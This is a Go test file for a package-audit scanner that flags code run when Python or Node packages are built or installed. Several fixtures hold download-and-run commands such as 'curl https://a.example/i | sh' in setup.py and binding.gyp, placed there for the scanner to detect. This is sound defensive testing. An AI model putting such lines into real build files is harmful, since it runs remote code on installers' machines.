package audit

import (
	"strings"
	"testing"
)

// What runs when a package is built or installed is told for each way of doing so, and nothing else is.
func TestBuilds(t *testing.T) {
	t.Parallel()
	const run = "import subprocess\nsubprocess.run(['git', 'describe'])\n"
	const load = "import urllib.request\nurllib.request.urlretrieve('https://a.example/x', 'x')\n"
	for _, c := range []struct {
		name, want string
		files      map[string]string
	}{
		{"setup.py", "", map[string]string{"setup.py": "from setuptools import setup\nsetup(name='x')\n"}},
		{"setup.py that starts programs", "install-script setup.py:2 low", map[string]string{"setup.py": run}},
		{"setup.py that downloads", "install-script setup.py:2 medium", map[string]string{"setup.py": load}},
		{"setup.py that runs a download", "download-run setup.py:2 high; install-script setup.py:2 low", map[string]string{"setup.py": "import os\nos.system('curl https://a.example/i | sh')\n"}},
		{"setup.py with a list", "download-run setup.py:2 high; install-script setup.py:2 low", map[string]string{"setup.py": "import subprocess\nsubprocess.check_call(['bash', '-c', 'curl https://a.example/i | sh'])\n"}},
		{"another setup.py", "", map[string]string{"lib/setup.py": run + load}},
		{"a backend of others", "", map[string]string{"pyproject.toml": "[build-system]\nbuild-backend = 'setuptools.build_meta'\nbackend-path = []\n", "b.py": run}},
		{"a backend of its own", "install-script b/back.py:2 low; install-script pyproject.toml:3 low", map[string]string{"pyproject.toml": "[build-system]\nbuild-backend = 'back:x'\nbackend-path = ['./b']\n", "b/back.py": run}},
		{"a package as a backend", "install-script back/end/__init__.py:2 medium; install-script pyproject.toml:3 low", map[string]string{"pyproject.toml": "[build-system]\nbuild-backend = 'back.end'\nbackend-path = ['.']\n", "back/end/__init__.py": load}},
		{"a hook of Hatch", "install-script hatch_build.py:2 low; install-script pyproject.toml:1 low", map[string]string{"pyproject.toml": "[tool.hatch.build.targets.wheel.hooks.custom]\n", "hatch_build.py": run}},
		{"a script of Poetry", "install-script build.py:2 low; install-script pyproject.toml:1 low", map[string]string{"pyproject.toml": "[tool.poetry.build]\nscript = 'build.py'\n", "build.py": run}},
		{"a hook of PDM", "install-script pdm_build.py:2 low; install-script pyproject.toml:1 low", map[string]string{"pyproject.toml": "[tool.pdm.build]\ncustom-hook = 'pdm_build.py'\n", "pdm_build.py": run}},
		{"paths", "", map[string]string{"x.pth": "/opt/x\n# import os\nimportant\n"}},
		{"code among paths", "install-script x.pth:2 medium", map[string]string{"x.pth": "/opt/x\nimport os; os.system('x')\n"}},
		{"an addon", "install-script binding.gyp:1 low", map[string]string{"package.json": `{"name":"x"}`, "binding.gyp": "{'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"]}\n"}},
		{"an addon that downloads", "download-run binding.gyp:2 high; download-run binding.gyp:3 high; install-script binding.gyp:1 low", map[string]string{"package.json": `{"name":"x"}`, "binding.gyp": "{ 'x': [\n '<!@(curl https://a.example/i | sh)'],\n 'actions': [{'action': ['sh', '-c', 'curl https://a.example/i | sh']}]}\n"}},
		{"an addon that a script builds", "install-script package.json:1 low", map[string]string{"package.json": `{"name":"x","scripts":{"install":"prebuild"}}`, "binding.gyp": "{}"}},
		{"an addon that nobody builds", "", map[string]string{"package.json": `{"name":"x","gypfile":false}`, "binding.gyp": "{}"}},
	} {
		c.files["a.py"] = ""
		r, err := Dir(t.Context(), write(t, c.files))
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, InstallScript, DownloadRun); got != c.want {
			t.Errorf("%s: %s\nwant %s", c.name, got, c.want)
		}
	}
}

// Whatever a binding.gyp holds, its commands are bounded and stand where they are said to.
func FuzzGyp(f *testing.F) {
	f.Add("{'actions': [{'action': ['sh', \"-c\", 'x']}], 'y': '<!@(a (b) c)'}")
	f.Add("<!(<!(((")
	f.Add(strings.Repeat("<!(", 1000))
	f.Fuzz(func(t *testing.T, src string) {
		list := gypCommands(src)
		if len(list) > 2*maxGyp {
			t.Errorf("%d commands", len(list))
		}
		for _, c := range list {
			if c.at < 0 || c.at > len(src) {
				t.Errorf("%q at %d of %d", c.text, c.at, len(src))
			}
		}
	})
}
